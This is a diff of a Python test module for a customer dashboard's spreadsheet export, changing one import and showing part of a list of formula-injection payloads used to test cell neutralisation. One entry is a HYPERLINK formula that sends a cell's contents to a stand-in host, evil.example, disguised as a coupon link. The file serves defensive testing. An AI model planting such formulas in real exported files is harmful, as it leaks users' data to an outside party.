@@ -30,7 +30,7 @@ from customers.dashboard.services import acquisition_daily_build
 from customers.models import Channel, ContactWay, Customer, Member
 from portal.spreadsheets import EXPORT_FORMATS, SafeExportResource, cell_neutralise
 from stores.models import Staff, Store
-from tests.customers.dashboard_helpers import at, follow
+from tests.customers.dashboard.helpers import at, follow
 from tests.factories import CustomerFactory, StaffFactory, StoreFactory
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
